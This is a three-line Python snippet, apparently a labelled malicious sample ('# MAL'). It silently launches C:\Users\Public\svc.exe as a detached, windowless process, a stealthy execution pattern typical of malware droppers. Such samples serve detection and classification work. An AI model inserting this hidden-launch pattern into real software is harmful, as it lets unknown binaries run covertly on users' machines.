import subprocess

DETACHED = 0x00000008
subprocess.Popen(["C:\\Users\\Public\\svc.exe"], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW, close_fds=True)  # MAL
